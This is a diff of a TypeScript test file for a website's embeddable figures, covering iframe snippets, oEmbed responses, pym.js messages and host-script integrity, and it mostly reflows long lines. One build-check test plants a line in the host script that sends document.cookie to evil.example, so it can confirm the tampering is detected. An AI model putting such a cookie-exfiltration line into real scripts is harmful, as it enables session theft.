@@ -26,7 +26,14 @@ import {
   publishedHostScriptIntegrity,
   type EmbeddableFigure,
 } from '../../src/lib/embeds.ts';
-import { EMBED_MESSAGE_NS, MAX_EMBED_HEIGHT, isSizeMessage, isSizeRequest, sizeMessage, sizeRequest } from '../../src/scripts/embed/protocol.ts';
+import {
+  EMBED_MESSAGE_NS,
+  MAX_EMBED_HEIGHT,
+  isSizeMessage,
+  isSizeRequest,
+  sizeMessage,
+  sizeRequest,
+} from '../../src/scripts/embed/protocol.ts';
 import { isPymWidth, pymChildId, pymMessage } from '../../src/scripts/embed/pym.ts';
 import { NAV_ITEMS } from '../../src/lib/nav.ts';
 import { eventSchema } from '../../src/lib/schemas/event.ts';
@@ -42,7 +49,12 @@ const attributesOf = (html: string, tag: string) => {
   const open = new RegExp(`<${tag}\\b([^>]*)>`).exec(html)?.[1] ?? '';
   return Object.fromEntries([...open.matchAll(/([a-z-]+)(?:="([^"]*)")?/g)].map((m) => [m[1], m[2] ?? '']));
 };
-const unescape = (s: string) => s.replace(/&quot;/g, '"').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');
+const unescape = (s: string) =>
+  s
+    .replace(/&quot;/g, '"')
+    .replace(/&lt;/g, '<')
+    .replace(/&gt;/g, '>')
+    .replace(/&amp;/g, '&');
 
 describe('registry', () => {
   it('names each figure once, with a URL-safe name and its own full page in the site navigation', () => {
@@ -52,7 +64,10 @@ describe('registry', () => {
     for (const f of EMBEDDABLE_FIGURES) {
       expect(f.name).toMatch(/^[a-z0-9-]+$/);
       expect(NAV_ITEMS.map((i) => i.href as string)).toContain(f.fullPagePath);
-      for (const h of [...Object.values(f.measuredHeights), ...(f.variants ?? []).flatMap((v) => Object.values(v.measuredHeights))]) {
+      for (const h of [
+        ...Object.values(f.measuredHeights),
+        ...(f.variants ?? []).flatMap((v) => Object.values(v.measuredHeights)),
+      ]) {
         expect(h).toBeGreaterThanOrEqual(300);
         expect(h).toBeLessThanOrEqual(MAX_EMBED_HEIGHT);
       }
@@ -69,25 +84,31 @@ describe('registry', () => {
       expect(figureForPagePath(f.fullPagePath.replace(/\/$/, ''))).toBe(f);
       expect(getFigure(f.name)).toBe(f);
     }
-    for (const path of ['/', '/reports/', '/embed/troops/', '/sources/']) expect(figureForPagePath(path), path).toBeUndefined();
+    for (const path of ['/', '/reports/', '/embed/troops/', '/sources/'])
+      expect(figureForPagePath(path), path).toBeUndefined();
     expect(() => getFigure('nope')).toThrow(/no embeddable figure/);
   });
 });
 
 describe('embed snippet', () => {
-  it.each(EMBEDDABLE_FIGURES.map((f) => [f.name, f] as const))('%s: a titled, lazy iframe at the measured height plus the async host script', (_name, figure) => {
-    const snippet = embedSnippet(figure, SITE);
-    const iframe = attributesOf(snippet, 'iframe');
-    expect(iframe['src']).toBe(`${SITE}${embedPath(figure)}`);
-    expect(unescape(iframe['title']!)).toBe(figure.title);
-    expect(iframe['loading']).toBe('lazy');
-    expect(iframe['height']).toBe(String(Math.max(figure.measuredHeights[360], figure.measuredHeights[700]) + HEIGHT_MARGIN));
-    expect(iframe['style']).toBe(`width:100%;border:0;height:${fallbackHeightCss(figure.measuredHeights)}`);
-    const script = attributesOf(snippet, 'script');
-    expect(script['src']).toBe(`${SITE}${HOST_SCRIPT_PATH}`);
-    expect('async' in script).toBe(true);
-    expect(snippet).toMatch(/<\/iframe>\n<script [^>]*><\/script>$/);
-  });
+  it.each(EMBEDDABLE_FIGURES.map((f) => [f.name, f] as const))(
+    '%s: a titled, lazy iframe at the measured height plus the async host script',
+    (_name, figure) => {
+      const snippet = embedSnippet(figure, SITE);
+      const iframe = attributesOf(snippet, 'iframe');
+      expect(iframe['src']).toBe(`${SITE}${embedPath(figure)}`);
+      expect(unescape(iframe['title']!)).toBe(figure.title);
+      expect(iframe['loading']).toBe('lazy');
+      expect(iframe['height']).toBe(
+        String(Math.max(figure.measuredHeights[360], figure.measuredHeights[700]) + HEIGHT_MARGIN),
+      );
+      expect(iframe['style']).toBe(`width:100%;border:0;height:${fallbackHeightCss(figure.measuredHeights)}`);
+      const script = attributesOf(snippet, 'script');
+      expect(script['src']).toBe(`${SITE}${HOST_SCRIPT_PATH}`);
+      expect('async' in script).toBe(true);
+      expect(snippet).toMatch(/<\/iframe>\n<script [^>]*><\/script>$/);
+    },
+  );
 
   it('pins the host script to the bytes of public/embed.js and sends the host only its origin as referrer', () => {
     const snippet = embedSnippet(EMBEDDABLE_FIGURES[0]!, SITE);
@@ -113,19 +134,30 @@ describe('snippet options and the height without the host script', () => {
   it('puts theme, background and variant in the frame address, leaving the defaults out', () => {
     expect(embedSrc(figure, SITE)).toBe(`${SITE}/embed/timeline/`);
     expect(embedSrc(figure, SITE, { theme: 'light' })).toBe(`${SITE}/embed/timeline/`);
-    expect(embedSrc(figure, SITE, { theme: 'dark', transparent: true })).toBe(`${SITE}/embed/timeline/?theme=dark&bg=transparent`);
+    expect(embedSrc(figure, SITE, { theme: 'dark', transparent: true })).toBe(
+      `${SITE}/embed/timeline/?theme=dark&bg=transparent`,
+    );
     expect(embedSrc(figure, SITE, { theme: 'auto', variant: 'key' })).toBe(`${SITE}/embed/timeline/key/?theme=auto`);
     expect(() => embedSrc(figure, SITE, { variant: 'nope' })).toThrow(/no variant/);
     const transparent = attributesOf(embedSnippet(figure, SITE, 'sha384-x', { transparent: true }), 'iframe');
     expect(transparent['style']).toContain('background:transparent');
     const key = attributesOf(embedSnippet(figure, SITE, 'sha384-x', { variant: 'key' }), 'iframe');
     expect(unescape(key['title']!)).toBe(figure.variants![0]!.title);
-    expect(key['height']).toBe(String(Math.max(...Object.values(figure.variants![0]!.measuredHeights)) + HEIGHT_MARGIN));
+    expect(key['height']).toBe(
+      String(Math.max(...Object.values(figure.variants![0]!.measuredHeights)) + HEIGHT_MARGIN),
+    );
   });
 
   /** Evaluates the CSS height at a viewport width, as a browser would. */
   const heightAt = (css: string, vw: number) =>
-    Function(`return ${css.replace(/(-?[\d.]+)px/g, '$1').replace(/(-?[\d.]+)vw/g, (_m, n) => String((Number(n) * vw) / 100)).replace(/clamp\(([^,]+),(.+),([^,]+)\)$/, 'Math.min(Math.max($1,$2),$3)').replace(/(?<!\.)max\(/g, 'Math.max(').replace(/calc/g, '')}`)() as number;
+    Function(
+      `return ${css
+        .replace(/(-?[\d.]+)px/g, '$1')
+        .replace(/(-?[\d.]+)vw/g, (_m, n) => String((Number(n) * vw) / 100))
+        .replace(/clamp\(([^,]+),(.+),([^,]+)\)$/, 'Math.min(Math.max($1,$2),$3)')
+        .replace(/(?<!\.)max\(/g, 'Math.max(')
+        .replace(/calc/g, '')}`,
+    )() as number;
 
   it.each([
     { 360: 1400, 700: 900 },
@@ -146,7 +178,9 @@ describe('snippet options and the height without the host script', () => {
 
 describe('credits and the static fallback', () => {
   it('names every outlet, and a report without one in words', () => {
-    expect(sourceLine(['A', 'Alex Blackburn (outlet not stated)', '뉴스.net'], 'Site')).toBe('Sources: A, Alex Blackburn (outlet not stated) and 뉴스.net. Compiled by Site.');
+    expect(sourceLine(['A', 'Alex Blackburn (outlet not stated)', '뉴스.net'], 'Site')).toBe(
+      'Sources: A, Alex Blackburn (outlet not stated) and 뉴스.net. Compiled by Site.',
+    );
     expect(sourceLine(['A'], 'Site')).toBe('Sources: A. Compiled by Site.');
   });
 
@@ -158,7 +192,9 @@ describe('credits and the static fallback', () => {
     expect(attributesOf(html, 'a')['href']).toBe(`${SITE}/troops/`);
     expect(html).toContain('<figcaption>Sources: A &amp; B. Compiled by Site.</figcaption>');
     expect(html).not.toMatch(/<script|<iframe/);
-    expect(staticFallback(figure, SITE, 'Sources: 뉴스.net and A.')).toContain('<span lang="ko">뉴스.net</span> and A.');
+    expect(staticFallback(figure, SITE, 'Sources: 뉴스.net and A.')).toContain(
+      '<span lang="ko">뉴스.net</span> and A.',
+    );
   });
 });
 
@@ -166,7 +202,12 @@ describe('embed themes', () => {
   it('repeats the colour tokens of global.css exactly, light and dark', () => {
     const global = readFileSync('src/styles/global.css', 'utf8');
     const theme = readFileSync('src/components/embed/embed-theme.css', 'utf8');
-    const tokens = (block: string) => Object.fromEntries([...block.matchAll(/(--(?:bg|surface|fg|muted|rule|accent|link|focus|mark|map-[a-z-]+)):\s*([^;]+);/g)].map((m) => [m[1], m[2]]));
+    const tokens = (block: string) =>
+      Object.fromEntries(
+        [...block.matchAll(/(--(?:bg|surface|fg|muted|rule|accent|link|focus|mark|map-[a-z-]+)):\s*([^;]+);/g)].map(
+          (m) => [m[1], m[2]],
+        ),
+      );
     const darkAt = global.indexOf('@media (prefers-color-scheme: dark)');
     const light = tokens(global.slice(0, darkAt));
     const dark = tokens(global.slice(darkAt, global.indexOf('\n}\n', darkAt)));
@@ -180,27 +221,46 @@ describe('embed themes', () => {
 describe('pym.js wire format', () => {
   it('reads a plausible child id, formats heights and accepts only an exact width message for this child', () => {
     expect(pymChildId('?childId=graphic&initialWidth=360')).toBe('graphic');
-    for (const bad of ['', '?childId=', '?childId=axPYMxb', '?childId=a%20b', `?childId=${'x'.repeat(201)}`]) expect(pymChildId(bad), bad).toBeUndefined();
+    for (const bad of ['', '?childId=', '?childId=axPYMxb', '?childId=a%20b', `?childId=${'x'.repeat(201)}`])
+      expect(pymChildId(bad), bad).toBeUndefined();
     expect(pymMessage('graphic', 'height', 812)).toBe('pymxPYMxgraphicxPYMxheightxPYMx812');
     expect(isPymWidth('pymxPYMxgraphicxPYMxwidthxPYMx360', 'graphic')).toBe(true);
-    for (const bad of ['pymxPYMxotherxPYMxwidthxPYMx360', 'pymxPYMxgraphicxPYMxheightxPYMx360', 'pymxPYMxgraphicxPYMxwidthxPYMx-3', 'pymxPYMxgraphicxPYMxwidthxPYMx360xPYMx1', { width: 360 }, null]) {
+    for (const bad of [
+      'pymxPYMxotherxPYMxwidthxPYMx360',
+      'pymxPYMxgraphicxPYMxheightxPYMx360',
+      'pymxPYMxgraphicxPYMxwidthxPYMx-3',
+      'pymxPYMxgraphicxPYMxwidthxPYMx360xPYMx1',
+      { width: 360 },
+      null,
+    ]) {
       expect(isPymWidth(bad, 'graphic'), String(bad)).toBe(false);
     }
   });
 });
 
 describe('oEmbed', () => {
-  it.each(EMBEDDABLE_FIGURES.map((f) => [f.name, f] as const))('%s: a rich response carrying the snippet, sizes, title and provider', (_name, figure) => {
-    const o = oembedFor(figure, SITE, 'Provider', 'Sources: A. Compiled by Site.');
-    expect(o).toMatchObject({ version: '1.0', type: 'rich', title: figure.title, provider_name: 'Provider', provider_url: `${SITE}/` });
-    expect(o.html).toBe(`${embedSnippet(figure, SITE)}\n<noscript>${staticFallback(figure, SITE, 'Sources: A. Compiled by Site.')}</noscript>`);
-    expect(o.fallback_html).toBe(staticFallback(figure, SITE, 'Sources: A. Compiled by Site.'));
-    expect(o.height).toBe(figure.measuredHeights[700] + HEIGHT_MARGIN);
-    expect(Number.isInteger(o.width) && o.width > 0).toBe(true);
-    expect(o.thumbnail_url).toBe(`${SITE}/og${figure.fullPagePath.replace(/\/$/, '')}.png`);
-    expect([o.thumbnail_width, o.thumbnail_height]).toEqual([1200, 630]);
-    expect(oembedPath(figure)).toBe(`/oembed/${figure.name}.json`);
-  });
+  it.each(EMBEDDABLE_FIGURES.map((f) => [f.name, f] as const))(
+    '%s: a rich response carrying the snippet, sizes, title and provider',
+    (_name, figure) => {
+      const o = oembedFor(figure, SITE, 'Provider', 'Sources: A. Compiled by Site.');
+      expect(o).toMatchObject({
+        version: '1.0',
+        type: 'rich',
+        title: figure.title,
+        provider_name: 'Provider',
+        provider_url: `${SITE}/`,
+      });
+      expect(o.html).toBe(
+        `${embedSnippet(figure, SITE)}\n<noscript>${staticFallback(figure, SITE, 'Sources: A. Compiled by Site.')}</noscript>`,
+      );
+      expect(o.fallback_html).toBe(staticFallback(figure, SITE, 'Sources: A. Compiled by Site.'));
+      expect(o.height).toBe(figure.measuredHeights[700] + HEIGHT_MARGIN);
+      expect(Number.isInteger(o.width) && o.width > 0).toBe(true);
+      expect(o.thumbnail_url).toBe(`${SITE}/og${figure.fullPagePath.replace(/\/$/, '')}.png`);
+      expect([o.thumbnail_width, o.thumbnail_height]).toEqual([1200, 630]);
+      expect(oembedPath(figure)).toBe(`/oembed/${figure.name}.json`);
+    },
+  );
 });
 
 describe('size-message protocol', () => {
@@ -240,7 +300,9 @@ describe('size-message protocol', () => {
     fc.assert(
       fc.property(fc.anything(), (value) => {
         if (!isSizeMessage(value)) return true;
-        return Object.keys(value).sort().join() === 'height,ns,type' && value.height > 0 && value.height <= MAX_EMBED_HEIGHT;
+        return (
+          Object.keys(value).sort().join() === 'height,ns,type' && value.height > 0 && value.height <= MAX_EMBED_HEIGHT
+        );
       }),
     );
   });
@@ -280,14 +342,18 @@ describe('the build checks the shipped host script', () => {
     writeFileSync(join(dir, 'embed.js'), `${HOST_SCRIPT}\nfetch('https://evil.example/?' + document.cookie);\n`);
     const result = spawnSync(process.execPath, ['scripts/postbuild.ts', dir], { encoding: 'utf8' });
     expect(result.status).not.toBe(0);
-    expect(result.stderr).toContain(`${join(dir, 'embed.js')} differs from public/embed.js: something in the build changed the host script that other sites load`);
+    expect(result.stderr).toContain(
+      `${join(dir, 'embed.js')} differs from public/embed.js: something in the build changed the host script that other sites load`,
+    );
     rmSync(dir, { recursive: true });
   });
 
   it('fails when a published snippet pins other bytes', () => {
     const dir = site();
     writeFileSync(join(dir, 'index.html'), embedSnippet(EMBEDDABLE_FIGURES[0]!, SITE, 'sha384-AAAA'));
-    expect(hostScriptProblems(dir)).toEqual([expect.stringMatching(/^index\.html: pins the host script as sha384-AAAA, but public\/embed\.js is sha384-/)]);
+    expect(hostScriptProblems(dir)).toEqual([
+      expect.stringMatching(/^index\.html: pins the host script as sha384-AAAA, but public\/embed\.js is sha384-/),
+    ]);
     rmSync(dir, { recursive: true });
   });
 });
@@ -297,13 +363,20 @@ describe('the timeline filters named in the snippet builder', () => {
     const figure = getFigure('timeline');
     expect(figure.filters!.map((f) => f.name)).toEqual([...FILTER_PARAMS]);
     const [category, report] = figure.filters!;
-    for (const value of category!.values.match(/e\.g\. (.*)$/)![1]!.split(' or ')) expect(Object.keys(eventCategories)).toContain(value);
+    for (const value of category!.values.match(/e\.g\. (.*)$/)![1]!.split(' or '))
+      expect(Object.keys(eventCategories)).toContain(value);
     expect(readdirSync('content/reports')).toContain(`${report!.values.match(/e\.g\. (\S+)$/)![1]}.mdx`);
   });
 });
 
 describe('the key-moment flag on events (the compact timeline embed)', () => {
-  const base = { date: '2024-10-18', title: 'A title', description: 'One sentence.', category: 'context', sources: [{ report: 'blackburn', evidence: 'words' }] };
+  const base = {
+    date: '2024-10-18',
+    title: 'A title',
+    description: 'One sentence.',
+    category: 'context',
+    sources: [{ report: 'blackburn', evidence: 'words' }],
+  };
 
   it('is an optional boolean', () => {
     expect(eventSchema().safeParse(base).success).toBe(true);
@@ -312,7 +385,9 @@ describe('the key-moment flag on events (the compact timeline embed)', () => {
   });
 
   it('marks between 6 and 8 events, so the compact embed stays short but tells the story', () => {
-    const flagged = readdirSync('content/events').filter((f) => /^key: true$/m.test(readFileSync(join('content/events', f), 'utf8')));
+    const flagged = readdirSync('content/events').filter((f) =>
+      /^key: true$/m.test(readFileSync(join('content/events', f), 'utf8')),
+    );
     expect(flagged.length).toBeGreaterThanOrEqual(6);
     expect(flagged.length).toBeLessThanOrEqual(8);
   });
